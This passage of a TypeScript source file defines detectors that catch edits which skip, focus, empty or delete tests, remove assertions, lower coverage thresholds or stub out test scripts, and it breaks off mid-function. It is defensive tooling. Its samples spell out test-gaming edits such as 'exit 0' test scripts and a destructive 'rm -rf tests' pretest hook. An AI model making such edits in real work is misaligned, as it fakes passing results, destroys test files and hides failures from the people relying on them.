// Detectors of edits that disable or weaken tests, wherever the file lives. Each compares the file before and
// after the edit (counts, not line positions, so moving code is not a change) and names the changed lines that
// did it. Each carries true- and false-positive samples, enforced by test/unit/integrity/detectors.test.ts.
import { type ConfigKind, inTestSection } from './config';
import type { ChangedLine } from './diff';
import { fragmentRunsLater, runsLaterChanges } from './installScripts';
import { fragmentChanges, jsonManifestOf, PASSES_ANYWAY, RUNNER, settingChanges } from './manifest';
import { countAll, countDisabled, type Lang, PATTERNS, PATTERNS_G } from './languages';

/** What a detector sees: the file's path and both texts, split and with comments blanked. */
export interface EditView {
  path: string;
  lang: Lang | undefined;
  config: ConfigKind | undefined;
  /** undefined: the file is created (old) or deleted (new). */
  oldText: string | undefined;
  newText: string | undefined;
  oldCode: string;
  newCode: string;
  oldLines: string[];
  newLines: string[];
  /** Either side reads as tests (declares, disables or focuses a test). */
  testLike: boolean;
  changes: ChangedLine[];
}

export interface Hit {
  reason: string;
  /** The changed lines that did it (all changes when none can be singled out). */
  lines: ChangedLine[];
}

export interface Sample {
  path: string;
  old?: string;
  new?: string;
}

export interface Detector {
  id: string;
  title: string;
  detect(v: EditView): Hit | undefined;
  samples: { hit: Sample[]; miss: Sample[] };
}

const matching = (changes: readonly ChangedLine[], side: '+' | '-', res: readonly RegExp[], code?: readonly string[]) =>
  changes.filter((c) => c.side === side && res.some((re) => new RegExp(re.source, re.flags.replace('g', '')).test(code ? (code[c.line - 1] ?? '') : c.text)));

const plural = (n: number, w: string) => `${n} ${w}${n === 1 ? '' : 's'}`;

const codeLines = (code: string) => code.split('\n');

function countDetector(
  id: string,
  title: string,
  key: 'disable' | 'focus' | 'assertion' | 'emptyTest' | 'testDecl',
  direction: 'up' | 'down',
  reason: (before: number, after: number) => string,
  opts: { onNewFile?: boolean; needsTestLike?: boolean },
  samples: Detector['samples'],
): Detector {
  return {
    id,
    title,
    samples,
    detect(v) {
      if (!v.lang) return undefined;
      if (opts.needsTestLike !== false && !v.testLike) return undefined;
      if (v.oldText === undefined && !opts.onNewFile) return undefined;
      if (v.newText === undefined) return undefined; // a deleted file is test.removed's
      const res = PATTERNS_G[v.lang][key];
      const count = (code: string, raw: string | undefined) => (key === 'disable' ? countDisabled(code, raw ?? '', v.lang!) : countAll(code, res));
      const before = count(v.oldCode, v.oldText);
      const after = count(v.newCode, v.newText);
      if (direction === 'up' ? after <= before : after >= before) return undefined;
      const side = direction === 'up' ? '+' : '-';
      const lines = [
        ...matching(v.changes, side, PATTERNS[v.lang][key], codeLines(side === '+' ? v.newCode : v.oldCode)),
        ...(key === 'disable' ? matching(v.changes, side, PATTERNS[v.lang].disableRaw ?? []) : []),
      ];
      return { reason: reason(before, after), lines: lines.length ? lines : v.changes };
    },
  };
}

const testDisabled = countDetector(
  'test.disabled',
  'a test switched off or marked expected to fail',
  'disable',
  'up',
  (b, a) => `the edit switches off or marks as failing ${plural(a - b, 'test')} (skip, todo, xfail, ignore, disabled)`,
  {},
  {
    hit: [
      {
        path: 'src/app.test.ts',
        old: "it('adds', () => {\n  expect(add(1, 2)).toBe(3);\n});\n",
        new: "it.skip('adds', () => {\n  expect(add(1, 2)).toBe(3);\n});\n",
      },
      { path: 'lib/app.spec.js', old: "describe('x', () => {\n  it('y', () => {});\n});\n", new: "describe('x', () => {\n  xit('y', () => {});\n});\n" },
      { path: 'src/anywhere.ts', old: "test('a', () => expect(1).toBe(1));\n", new: "test.todo('a');\n" },
      {
        path: 'e2e/login.ts',
        old: "test('logs in', async ({ page }) => {\n  await page.goto('/');\n});\n",
        new: "test('logs in', async ({ page }) => {\n  test.fixme();\n  await page.goto('/');\n});\n",
      },
      {
        path: 'spec/a.js',
        old: "it('a', function () {\n  expect(a).toBe(1);\n});\n",
        new: "it('a', function () {\n  pending('later');\n  expect(a).toBe(1);\n});\n",
      },
      {
        path: 'tests/test_api.py',
        old: 'def test_get():\n    assert get() == 1\n',
        new: '@pytest.mark.skip(reason="flaky")\ndef test_get():\n    assert get() == 1\n',
      },
      {
        path: 'pkg/check.py',
        old: 'def test_get():\n    assert get() == 1\n',
        new: '@pytest.mark.skipif(sys.platform == "linux", reason="x")\ndef test_get():\n    assert get() == 1\n',
      },
      {
        path: 'tests/test_x.py',
        old: 'class T(unittest.TestCase):\n    def test_a(self):\n        self.assertEqual(a(), 1)\n',
        new: 'class T(unittest.TestCase):\n    @unittest.skip("later")\n    def test_a(self):\n        self.assertEqual(a(), 1)\n',
      },
      { path: 'tests/test_y.py', old: 'def test_a():\n    assert a() == 1\n', new: '@pytest.mark.xfail\ndef test_a():\n    assert a() == 1\n' },
      {
        path: 'server_test.go',
        old: 'func TestServe(t *testing.T) {\n\tif got := serve(); got != 1 {\n\t\tt.Errorf("got %d", got)\n\t}\n}\n',
        new: 'func TestServe(t *testing.T) {\n\tt.Skip("flaky")\n\tif got := serve(); got != 1 {\n\t\tt.Errorf("got %d", got)\n\t}\n}\n',
      },
      {
        path: 'server_test.go',
        old: 'package server\n\nfunc TestA(t *testing.T) {}\n',
        new: '//go:build ignore\n\npackage server\n\nfunc TestA(t *testing.T) {}\n',
      },
      {
        path: 'src/lib.rs',
        old: '#[test]\nfn parses() {\n    assert_eq!(parse("1"), 1);\n}\n',
        new: '#[test]\n#[ignore]\nfn parses() {\n    assert_eq!(parse("1"), 1);\n}\n',
      },
      { path: 'tests/it.rs', old: '#[test]\nfn parses() {\n    assert!(ok());\n}\n', new: '#[test]\n#[should_panic]\nfn parses() {\n    assert!(ok());\n}\n' },
      {
        path: 'src/test/java/AppTest.java',
        old: '@Test\nvoid adds() {\n  assertEquals(3, add(1, 2));\n}\n',
        new: '@Disabled\n@Test\nvoid adds() {\n  assertEquals(3, add(1, 2));\n}\n',
      },
      {
        path: 'src/test/java/OldTest.java',
        old: '@Test\npublic void adds() {\n  assertEquals(3, add(1, 2));\n}\n',
        new: '@Ignore("later")\n@Test\npublic void adds() {\n  assertEquals(3, add(1, 2));\n}\n',
      },
      {
        path: 'tests/OrderTests.cs',
        old: '[Fact]\npublic void Totals() {\n  Assert.Equal(3, Total());\n}\n',
        new: '[Fact(Skip = "flaky")]\npublic void Totals() {\n  Assert.Equal(3, Total());\n}\n',
      },
      {
        path: 'tests/OrderTests.cs',
        old: '[Test]\npublic void Totals() {\n  Assert.AreEqual(3, Total());\n}\n',
        new: '[Test, Ignore("later")]\npublic void Totals() {\n  Assert.AreEqual(3, Total());\n}\n',
      },
      {
        path: 'tests/Unit/UserTest.php',
        old: 'public function testName(): void\n{\n    $this->assertSame("a", name());\n}\n',
        new: 'public function testName(): void\n{\n    $this->markTestSkipped("later");\n    $this->assertSame("a", name());\n}\n',
      },
      {
        path: 'tests/Feature/ApiTest.php',
        old: "it('works', function () {\n    expect(api())->toBeTrue();\n});\n",
        new: "it('works', function () {\n    expect(api())->toBeTrue();\n})->skip();\n",
      },
      {
        path: 'spec/user_spec.rb',
        old: "it 'has a name' do\n  expect(user.name).to eq('a')\nend\n",
        new: "xit 'has a name' do\n  expect(user.name).to eq('a')\nend\n",
      },
      {
        path: 'spec/user_spec.rb',
        old: "it 'has a name' do\n  expect(user.name).to eq('a')\nend\n",
        new: "it 'has a name' do\n  pending 'rewrite'\n  expect(user.name).to eq('a')\nend\n",
      },
      {
        path: 'test/user_test.rb',
        old: 'def test_name\n  assert_equal "a", user.name\nend\n',
        new: 'def test_name\n  skip "later"\n  assert_equal "a", user.name\nend\n',
      },
    ],
    miss: [
      { path: 'src/app.test.ts', old: "it.skip('adds', () => {});\n", new: "it.skip('adds', () => {});\nit('subtracts', () => expect(sub(2, 1)).toBe(1));\n" },
      { path: 'src/app.test.ts', old: "it('adds', () => {});\n", new: "// it.skip('adds', () => {});\nit('adds', () => {});\n" },
      { path: 'src/router.ts', old: 'export function route() {}\n', new: 'export function route(skip: number) { return items.slice(skip); }\n' },
      { path: 'src/app.ts', old: 'const a = 1;\n', new: 'const pending = orders.filter((o) => o.pending);\n' },
      { path: 'tests/test_api.py', old: '@pytest.mark.skip\ndef test_a():\n    assert 1\n', new: 'def test_a():\n    assert 1\n' },
      { path: 'app/controllers/users_controller.rb', old: 'class UsersController\nend\n', new: 'class UsersController\n  skip_before_action :auth\nend\n' },
      { path: 'server_test.go', old: 'func TestA(t *testing.T) {\n\tt.Skip("x")\n}\n', new: 'func TestA(t *testing.T) {\n\tt.Skip("x")\n\tt.Log("y")\n}\n' },
      { path: 'src/reader.go', old: 'package r\n', new: 'package r\n\nfunc (r *Reader) Skip(n int) {}\n' },
    ],
  },
);

const testFocused = countDetector(
  'test.focused',
  'one test focused, switching off every other test in the run',
  'focus',
  'up',
  (b, a) => `the edit focuses ${plural(a - b, 'test')} (.only, fit, fdescribe): every other test in the run stops running`,
  { onNewFile: true, needsTestLike: false },
  {
    hit: [
      { path: 'src/app.test.ts', old: "it('adds', () => {});\nit('subs', () => {});\n", new: "it.only('adds', () => {});\nit('subs', () => {});\n" },
      { path: 'src/new.spec.ts', new: "describe.only('x', () => {\n  it('y', () => {});\n});\n" },
      { path: 'spec/a.spec.js', old: "describe('a', () => {});\n", new: "fdescribe('a', () => {});\n" },
      { path: 'spec/user_spec.rb', old: "describe User do\n  it 'a' do\n  end\nend\n", new: "describe User, focus: true do\n  it 'a' do\n  end\nend\n" },
      { path: 'tests/Feature/ApiTest.php', old: "it('works', function () {});\n", new: "it('works', function () {})->only();\n" },
    ],
    miss: [
      { path: 'src/app.test.ts', old: "it.only('adds', () => {});\n", new: "it('adds', () => {});\n" },
      { path: 'src/query.ts', old: 'export const q = 1;\n', new: 'export const q = db.users.only(["id"]);\n' },
      { path: 'src/app.test.ts', old: "it('adds', () => {});\n", new: "it('adds', () => {});\n// it.only('adds', () => {});\n" },
    ],
  },
);

const assertionRemoved = countDetector(
  'test.assertion-removed',
  'an assertion deleted from a test',
  'assertion',
  'down',
  (b, a) => `the edit removes ${plural(b - a, 'assertion')} from tests (${b} before, ${a} after): the tests check less`,
  {},
  {
    hit: [
      {
        path: 'src/app.test.ts',
        old: "it('adds', () => {\n  expect(add(1, 2)).toBe(3);\n  expect(add(0, 0)).toBe(0);\n});\n",
        new: "it('adds', () => {\n  expect(add(1, 2)).toBe(3);\n});\n",
      },
      {
        path: 'src/app.test.ts',
        old: "it('adds', () => {\n  expect(add(1, 2)).toBe(3);\n});\n",
        new: "it('adds', () => {\n  // expect(add(1, 2)).toBe(3);\n});\n",
      },
      {
        path: 'tests/test_api.py',
        old: 'def test_get():\n    r = get()\n    assert r.status == 200\n    assert r.json() == {}\n',
        new: 'def test_get():\n    r = get()\n    assert r.status == 200\n',
      },
      {
        path: 'api_test.go',
        old: 'func TestGet(t *testing.T) {\n\tif get() != 1 {\n\t\tt.Fatalf("bad")\n\t}\n}\n',
        new: 'func TestGet(t *testing.T) {\n\tget()\n}\n',
      },
      { path: 'src/lib.rs', old: '#[test]\nfn t() {\n    assert_eq!(f(), 1);\n    assert!(g());\n}\n', new: '#[test]\nfn t() {\n    assert_eq!(f(), 1);\n}\n' },
      {
        path: 'src/test/java/AppTest.java',
        old: '@Test\nvoid t() {\n  assertEquals(1, f());\n  assertTrue(g());\n}\n',
        new: '@Test\nvoid t() {\n  assertEquals(1, f());\n}\n',
      },
      {
        path: 'tests/AppTests.cs',
        old: '[Fact]\npublic void T() {\n  Assert.Equal(1, F());\n  Assert.True(G());\n}\n',
        new: '[Fact]\npublic void T() {\n  Assert.Equal(1, F());\n}\n',
      },
      {
        path: 'tests/Unit/AppTest.php',
        old: 'public function testF() {\n  $this->assertSame(1, f());\n  $this->assertTrue(g());\n}\n',
        new: 'public function testF() {\n  $this->assertSame(1, f());\n}\n',
      },
      { path: 'spec/app_spec.rb', old: "it 'f' do\n  expect(f).to eq(1)\n  expect(g).to be true\nend\n", new: "it 'f' do\n  expect(f).to eq(1)\nend\n" },
    ],
    miss: [
      {
        path: 'src/app.test.ts',
        old: "it('adds', () => {\n  expect(add(1, 2)).toBe(3);\n});\n",
        new: "it('adds', () => {\n  expect(add(1, 2)).toBe(3);\n  expect(add(2, 2)).toBe(4);\n});\n",
      },
      {
        path: 'src/app.test.ts',
        old: "it('a', () => {\n  expect(a()).toBe(1);\n});\nit('b', () => {\n  expect(b()).toBe(2);\n});\n",
        new: "it('b', () => {\n  expect(b()).toBe(2);\n});\nit('a', () => {\n  expect(a()).toBe(1);\n});\n",
      },
      { path: 'src/util.py', old: 'def f(x):\n    assert x > 0\n    return x\n', new: 'def f(x):\n    return x\n' },
      {
        path: 'src/app.test.ts',
        old: "it('adds', () => {\n  expect(add(1, 2)).toBe(3);\n});\n",
        new: "it('adds', () => {\n  expect(add(1, 2)).toEqual(3);\n});\n",
      },
    ],
  },
);

const testEmptied = countDetector(
  'test.emptied',
  'a test body emptied',
  'emptyTest',
  'up',
  (b, a) => `the edit leaves ${plural(a - b, 'test')} with an empty body: it passes without checking anything`,
  {},
  {
    hit: [
      { path: 'src/app.test.ts', old: "it('adds', () => {\n  expect(add(1, 2)).toBe(3);\n});\n", new: "it('adds', () => {});\n" },
      { path: 'tests/test_api.py', old: 'def test_get():\n    assert get() == 1\n', new: 'def test_get():\n    pass\n' },
      { path: 'api_test.go', old: 'func TestGet(t *testing.T) {\n\tif get() != 1 {\n\t\tt.Fatal("x")\n\t}\n}\n', new: 'func TestGet(t *testing.T) {\n}\n' },
      { path: 'tests/t.rs', old: '#[test]\nfn t() {\n    assert!(f());\n}\n', new: '#[test]\nfn t() {\n}\n' },
      { path: 'src/test/java/AppTest.java', old: '@Test\nvoid t() {\n  assertTrue(f());\n}\n', new: '@Test\nvoid t() {\n}\n' },
      { path: 'tests/AppTests.cs', old: '[Fact]\npublic void T()\n{\n  Assert.True(F());\n}\n', new: '[Fact]\npublic void T()\n{\n}\n' },
      { path: 'tests/Unit/AppTest.php', old: 'public function testF(): void\n{\n  $this->assertTrue(f());\n}\n', new: 'public function testF(): void\n{\n}\n' },
      { path: 'spec/app_spec.rb', old: "it 'f' do\n  expect(f).to eq(1)\nend\n", new: "it 'f' do\nend\n" },
    ],
    miss: [
      { path: 'src/app.test.ts', old: "it('adds', () => {});\n", new: "it('adds', () => {});\nit('subs', () => {\n  expect(sub(2, 1)).toBe(1);\n});\n" },
      { path: 'src/handlers.ts', old: 'export function on() {\n  run();\n}\n', new: 'export function on() {}\n' },
      {
        path: 'tests/test_api.py',
        old: 'def test_get():\n    assert get() == 1\n',
        new: 'def test_get():\n    assert get() == 1\n\ndef helper():\n    pass\n',
      },
    ],
  },
);

const testRemoved: Detector = {
  id: 'test.removed',
  title: 'a test deleted or commented out',
  samples: {
    hit: [
      {
        path: 'src/app.test.ts',
        old: "it('a', () => expect(a()).toBe(1));\nit('b', () => expect(b()).toBe(2));\n",
        new: "it('a', () => expect(a()).toBe(1));\n",
      },
      {
        path: 'tests/test_api.py',
        old: 'def test_a():\n    assert a()\n\ndef test_b():\n    assert b()\n',
        new: 'def test_a():\n    assert a()\n\n# def test_b():\n#     assert b()\n',
      },
      { path: 'src/lib/math.spec.ts', old: "it('a', () => expect(a()).toBe(1));\n" },
      {
        path: 'api_test.go',
        old: 'func TestA(t *testing.T) {\n\tt.Log("a")\n}\n\nfunc TestB(t *testing.T) {\n\tt.Log("b")\n}\n',
        new: 'func TestA(t *testing.T) {\n\tt.Log("a")\n}\n',
      },
    ],
    miss: [
      { path: 'src/app.test.ts', old: "it('a', () => expect(a()).toBe(1));\n", new: "it('a renamed', () => expect(a()).toBe(1));\n" },
      // switched off, not removed: that is test.disabled's (and a focus is test.focused's)
      { path: 'src/app.test.ts', old: "it('a', () => expect(a()).toBe(1));\n", new: "it.skip('a', () => expect(a()).toBe(1));\n" },
      { path: 'src/app.test.ts', old: "test('a', () => expect(a()).toBe(1));\n", new: "xtest('a', () => expect(a()).toBe(1));\n" },
      { path: 'spec/a_spec.rb', old: "it 'works' do\n  expect(a).to eq(1)\nend\n", new: "xit 'works' do\n  expect(a).to eq(1)\nend\n" },
      { path: 'src/app.ts', old: 'export const a = 1;\n' },
      {
        path: 'src/app.test.ts',
        old: "it('a', () => expect(a()).toBe(1));\n",
        new: "it('a', () => expect(a()).toBe(1));\nit('b', () => expect(b()).toBe(2));\n",
      },
    ],
  },
  detect(v) {
    if (!v.lang || !v.testLike || v.oldText === undefined) return undefined;
    const res = PATTERNS_G[v.lang].testDecl;
    const before = countAll(v.oldCode, res);
    if (v.newText === undefined) {
      return before > 0 ? { reason: `the edit deletes a test file holding ${plural(before, 'test')}`, lines: [] } : undefined;
    }
    const after = countAll(v.newCode, res);
    if (after >= before) return undefined;
    const lines = matching(v.changes, '-', PATTERNS[v.lang].testDecl, codeLines(v.oldCode));
    return {
      reason: `the edit removes or comments out ${plural(before - after, 'test')} (${before} before, ${after} after)`,
      lines: lines.length ? lines : v.changes,
    };
  },
};

// Coverage thresholds: a keyword and the number after it, in files that configure tests or coverage.
const THRESHOLD =
  /(coverageThreshold|fail[_-]?under|cov-fail-under|minimum[_-]?coverage|minimum_coverage_by_file|<minimum>|minimum|threshold|target|branches|functions|lines|statements|covered ?ratio)["'\s:=>]{0,6}(\d+(?:\.\d+)?)/gi;

function thresholds(lines: readonly string[], v: EditView, which: 'old' | 'new'): Map<string, { value: number; line: number }[]> {
  const out = new Map<string, { value: number; line: number }[]>();
  lines.forEach((text, i) => {
    if (v.config === 'manifest' && !inTestSection(lines, i + 1, v.path)) return;
    if (v.config === 'ci' && !/cov|threshold|fail[_-]?under|minimum/i.test(text)) return;
    for (const m of text.matchAll(THRESHOLD)) {
      const key = m[1].toLowerCase().replace(/[_-]/g, '');
      const list = out.get(key) ?? [];
      list.push({ value: Number(m[2]), line: i + 1 });
      out.set(key, list);
    }
  });
  void which;
  return out;
}

const coverageLowered: Detector = {
  id: 'config.coverage-lowered',
  title: 'a coverage threshold lowered, removed or its check switched off',
  samples: {
    hit: [
      {
        path: 'jest.config.js',
        old: 'module.exports = {\n  coverageThreshold: {\n    global: { branches: 80, lines: 90 },\n  },\n};\n',
        new: 'module.exports = {\n  coverageThreshold: {\n    global: { branches: 50, lines: 90 },\n  },\n};\n',
      },
      { path: '.nycrc.json', old: '{\n  "check-coverage": true,\n  "lines": 85\n}\n', new: '{\n  "check-coverage": false,\n  "lines": 85\n}\n' },
      {
        path: 'pyproject.toml',
        old: '[project]\nname = "x"\n\n[tool.coverage.report]\nfail_under = 90\n',
        new: '[project]\nname = "x"\n\n[tool.coverage.report]\nfail_under = 60\n',
      },
      { path: 'setup.cfg', old: '[tool:pytest]\naddopts = --cov=pkg --cov-fail-under=85\n', new: '[tool:pytest]\naddopts = --cov=pkg\n' },
      {
        path: 'codecov.yml',
        old: 'coverage:\n  status:\n    project:\n      default:\n        target: 80%\n',
        new: 'coverage:\n  status:\n    project:\n      default:\n        target: 40%\n',
      },
      {
        path: 'pom.xml',
        old: '<rule><limits><limit><minimum>0.80</minimum></limit></limits></rule>\n',
        new: '<rule><limits><limit><minimum>0.10</minimum></limit></limits></rule>\n',
      },
      { path: '.simplecov', old: 'SimpleCov.start do\n  minimum_coverage 95\nend\n', new: 'SimpleCov.start do\n  minimum_coverage 70\nend\n' },
      { path: '.github/workflows/ci.yml', old: 'steps:\n  - run: pytest --cov --cov-fail-under=90\n', new: 'steps:\n  - run: pytest --cov\n' },
      {
        path: 'package.json',
        old: '{\n  "name": "x",\n  "jest": {\n    "coverageThreshold": { "global": { "lines": 90 } }\n  }\n}\n',
        new: '{\n  "name": "x",\n  "jest": {\n    "coverageThreshold": { "global": { "lines": 10 } }\n  }\n}\n',
      },
    ],
    miss: [
      {
        path: 'jest.config.js',
        old: 'module.exports = {\n  coverageThreshold: { global: { lines: 80 } },\n};\n',
        new: 'module.exports = {\n  coverageThreshold: { global: { lines: 90 } },\n};\n',
      },
      { path: 'src/game.ts', old: 'const target = 80;\n', new: 'const target = 40;\n' },
      { path: 'pyproject.toml', old: '[tool.black]\nline-length = 100\n', new: '[tool.black]\nline-length = 80\n' },
      { path: 'package.json', old: '{\n  "name": "x",\n  "version": "2.0.0"\n}\n', new: '{\n  "name": "x",\n  "version": "1.9.0"\n}\n' },
    ],
  },
  detect(v) {
    if (!v.config || v.config === 'tsconfig' || v.oldText === undefined) return undefined;
    if (v.newText === undefined) {
      const had = [...thresholds(v.oldLines, v, 'old').values()].flat();
      return had.length ? { reason: 'the edit deletes a file that sets coverage thresholds', lines: [] } : undefined;
    }
    const before = thresholds(v.oldLines, v, 'old');
    const after = thresholds(v.newLines, v, 'new');
    const problems: string[] = [];
    const lines: ChangedLine[] = [];
    for (const [key, olds] of before) {
      const news = after.get(key) ?? [];
      olds.forEach((o, i) => {
        const n = news[i];
        if (!n) {
          problems.push(`${key} ${o.value} removed`);
          lines.push({ side: '-', line: o.line, text: v.oldLines[o.line - 1] });
        } else if (n.value < o.value) {
          problems.push(`${key} ${o.value} → ${n.value}`);
          lines.push({ side: '-', line: o.line, text: v.oldLines[o.line - 1] }, { side: '+', line: n.line, text: v.newLines[n.line - 1] });
        }
      });
    }
    const onBefore = (v.oldText.match(/check[-_]?coverage["']?\s*[:=]\s*true/gi) ?? []).length;
    const onAfter = (v.newText.match(/check[-_]?coverage["']?\s*[:=]\s*true/gi) ?? []).length;
    if (onAfter < onBefore) {
      problems.push('the coverage check switched off');
      lines.push(...v.changes.filter((c) => /check[-_]?coverage/i.test(c.text)));
    }
    if (!problems.length) return undefined;
    return { reason: `the edit lowers what coverage must reach: ${problems.join('; ')}`, lines: dedupe(lines) };
  },
};

// Keys that decide which tests run (or whether a failure fails), per tool.
const SELECTION =
  /testPathIgnorePatterns|testMatch|testRegex|\broots\b|testIgnore|testDir|grepInvert|\bgrep\b|passWithNoTests|forbidOnly|\bexclude\b|\binclude\b|\bspec\b|\bignore\b|\bbail\b|\bretries\b|addopts|testpaths|norecursedirs|python_(?:files|classes|functions)|collect_ignore|--ignore|--deselect|(?:^|\s)-k\s|xfail_strict|skipTests|maven\.test\.skip|testFailureIgnore|ignoreFailures|excludeTestsMatching|includeTestsMatching|\bfilter\b|TestCaseFilter|IsTestProject|--exclude-group|<exclude|<directory|<testsuite|filter_run_excluding|exclude_pattern|--tag\s|default-filter|\btest\s*=\s*false|harness\s*=|\benabled\s*=\s*false|failOn\w+|stopOn\w+|strict\s*=/i;

const testsExcluded: Detector = {
  id: 'config.tests-excluded',
  title: 'test configuration changed to run fewer tests or to let failures pass',
  samples: {
    hit: [
      {
        path: 'jest.config.js',
        old: "module.exports = {\n  testPathIgnorePatterns: ['/node_modules/'],\n};\n",
        new: "module.exports = {\n  testPathIgnorePatterns: ['/node_modules/', 'src/payments'],\n};\n",
      },
      {
        path: 'vitest.config.ts',
        old: "export default defineConfig({\n  test: { include: ['src/**/*.test.ts'] },\n});\n",
        new: "export default defineConfig({\n  test: { include: ['src/**/*.test.ts'], exclude: ['src/api/**'] },\n});\n",
      },
      { path: 'pytest.ini', old: '[pytest]\ntestpaths = tests\n', new: '[pytest]\ntestpaths = tests\naddopts = --deselect tests/test_pay.py::test_refund\n' },
      {
        path: 'pyproject.toml',
        old: '[tool.pytest.ini_options]\ntestpaths = ["tests"]\n',
        new: '[tool.pytest.ini_options]\ntestpaths = ["tests"]\naddopts = "-k \'not slow\'"\n',
      },
      {
        path: 'package.json',
        old: '{\n  "scripts": {\n    "test": "jest"\n  }\n}\n',
        new: '{\n  "scripts": {\n    "test": "jest --passWithNoTests src/utils"\n  }\n}\n',
      },
      // dotted keys: before any header, and under `[tool]`
      {
        path: 'pyproject.toml',
        old: 'tool.pytest.ini_options.testpaths = ["tests"]\n\n[project]\nname = "x"\n',
        new: 'tool.pytest.ini_options.testpaths = ["nothing"]\n\n[project]\nname = "x"\n',
      },
      { path: 'pyproject.toml', old: '[tool]\npytest.ini_options.addopts = "-q"\n', new: '[tool]\npytest.ini_options.addopts = "-q -k nothing"\n' },
      {
        path: 'pom.xml',
        old: '<properties>\n  <java.version>17</java.version>\n</properties>\n',
        new: '<properties>\n  <java.version>17</java.version>\n  <skipTests>true</skipTests>\n</properties>\n',
      },
      {
        path: 'build.gradle.kts',
        old: 'tasks.test {\n    useJUnitPlatform()\n}\n',
        new: 'tasks.test {\n    useJUnitPlatform()\n    filter { excludeTestsMatching("*PaymentTest") }\n}\n',
      },
      {
        path: 'phpunit.xml',
        old: '<testsuite name="Unit">\n  <directory>tests/Unit</directory>\n</testsuite>\n',
        new: '<testsuite name="Unit">\n  <directory>tests/Unit</directory>\n  <exclude>tests/Unit/PaymentTest.php</exclude>\n</testsuite>\n',
      },
      {
        path: 'Cargo.toml',
        old: '[package]\nname = "x"\n\n[lib]\npath = "src/lib.rs"\n',
        new: '[package]\nname = "x"\n\n[lib]\npath = "src/lib.rs"\ntest = false\n',
      },
      // A new config the runner reads (vitest reads vite.config's `test` block when there is no vitest.config): its
      // selection is measured against the runner's defaults, i.e. against nothing.
      { path: 'vite.config.ts', new: "export default defineConfig({\n  test: { exclude: ['**/*'] },\n});\n" },
      { path: 'pytest.ini', new: '[pytest]\naddopts = -k "not payments"\n' },
    ],
    miss: [
      { path: 'vite.config.ts', new: 'export default defineConfig({\n  plugins: [react()],\n  server: { port: 3000 },\n});\n' },
      {
        path: 'package.json',
        old: '{\n  "dependencies": {\n    "left-pad": "1.0.0"\n  }\n}\n',
        new: '{\n  "dependencies": {\n    "left-pad": "1.1.0"\n  }\n}\n',
      },
      { path: 'pyproject.toml', old: '[project]\ndependencies = ["requests"]\n', new: '[project]\ndependencies = ["requests", "httpx"]\n' },
      { path: 'src/filter.ts', old: 'export const a = 1;\n', new: 'export const exclude = ["a"];\n' },
      { path: 'jest.config.js', old: 'module.exports = {\n  verbose: false,\n};\n', new: 'module.exports = {\n  verbose: true,\n};\n' },
    ],
  },
  detect(v) {
    // A created config (oldText undefined) is judged too: every line is new against the runner's defaults.
    if (!v.config || v.config === 'tsconfig' || v.config === 'ci' || v.newText === undefined) return undefined;
    const hits = v.changes.filter((c) => {
      const lines = c.side === '+' ? v.newLines : v.oldLines;
      if (v.config === 'manifest' && !inTestSection(lines, c.line, v.path)) return false;
      return SELECTION.test(c.text);
    });
    if (!hits.length) return undefined;
    return { reason: 'the edit changes which tests run or whether a failure fails the run', lines: hits };
  },
};

const PKG =
  '{\n  "name": "app",\n  "version": "1.0.0",\n  "scripts": {\n    "build": "tsc",\n    "test": "jest"\n  },\n  "dependencies": {\n    "express": "^4.19.0"\n  }\n}\n';
const PKG_MIN = '{"name":"ws","version":"1.0.0","scripts":{"test":"jest"}}\n';

const testSettingsChanged: Detector = {
  id: 'config.test-settings-changed',
  title: "a manifest's test script or test-tool settings changed (package.json, deno.json, composer.json)",
  samples: {
    hit: [
      { path: 'package.json', old: PKG_MIN, new: PKG_MIN.replace('"jest"', '"exit 0"') },
      { path: 'package.json', old: PKG, new: PKG.replace('"test": "jest"', '"test": "true"') },
      { path: 'web/package.json', old: PKG, new: PKG.replace('"test": "jest"', '"test": "echo ok"') },
      { path: 'package.json', old: PKG_MIN, new: PKG_MIN.replace('"jest"', '"jest --passWithNoTests --testPathPattern=nothing"') },
      { path: 'package.json', old: PKG_MIN, new: PKG_MIN.replace('"version":"1.0.0",', '"version":"1.0.0","jest":{"testPathIgnorePatterns":["tests"]},') },
      { path: 'package.json', old: PKG, new: PKG.replace('"test": "jest"', '"test": "jest || true"') },
      {
        path: 'package.json',
        old: '{"scripts":{"test":"npm run unit","unit":"mocha test/**/*.js"}}',
        new: '{"scripts":{"test":"npm run unit","unit":":"}}',
      },
      { path: 'package.json', old: PKG, new: PKG.replace('"build": "tsc",', '"build": "tsc",\n    "pretest": "rm -rf tests",') },
      { path: 'package.json', old: PKG, new: PKG.replace('    "build": "tsc",\n    "test": "jest"\n', '    "build": "tsc"\n') },
      { path: 'package.json', old: '{"jest":{"roots":["<rootDir>/src","<rootDir>/tests"]}}', new: '{"jest":{"roots":["<rootDir>/src"]}}' },
      { path: 'deno.json', old: '{\n  "tasks": { "test": "deno test -A" }\n}\n', new: '{\n  "tasks": { "test": "exit 0" }\n}\n' },
      { path: 'deno.jsonc', old: '{\n  // tests\n  "test": { "include": ["tests/"] },\n}\n', new: '{\n  // tests\n  "test": { "include": ["src/"] },\n}\n' },
      { path: 'composer.json', old: '{"scripts":{"test":["@phpunit"],"phpunit":"phpunit"}}', new: '{"scripts":{"test":["@phpunit"],"phpunit":"true"}}' },
      // fragments (an edit the bridge could not place): judged by the pairs they hold
      { path: 'package.json', old: '"test":"jest"', new: '"test":"exit 0"' },
      { path: 'package.json', old: '"version": "1.0.0",', new: '"version": "1.0.0",\n  "testPathIgnorePatterns": ["tests"],' },
    ],
    miss: [
      { path: 'package.json', old: PKG, new: PKG.replace('"version": "1.0.0"', '"version": "1.1.0"') },
      { path: 'package.json', old: PKG, new: PKG.replace('"express": "^4.19.0"', '"express": "^4.19.0",\n    "zod": "^3.23.0"') },
      { path: 'package.json', old: PKG, new: PKG.replace('"build": "tsc",', '"build": "tsc",\n    "start": "node dist/index.js",') },
      { path: 'package.json', old: PKG, new: PKG.replace('"build": "tsc"', '"build": "tsc -p tsconfig.build.json"') },
      { path: 'package.json', old: PKG_MIN, new: JSON.stringify(JSON.parse(PKG_MIN), null, 2) + '\n' },
      { path: 'package.json', old: PKG, new: PKG.replace('"test": "jest"', '"test": "jest",\n    "test:e2e": "playwright test"') },
      { path: 'package.json', old: '{"scripts":{"test":"jest","build":"tsc"}}', new: '{"scripts":{"build":"tsc","test":"jest"}}' },
      { path: 'package.json', old: '"version": "1.0.0"', new: '"version": "1.0.1"' },
      { path: 'composer.json', old: '{"require":{"php":"^8.2"}}', new: '{"require":{"php":"^8.3"}}' },
    ],
  },
  detect(v) {
    const kind = jsonManifestOf(v.path);
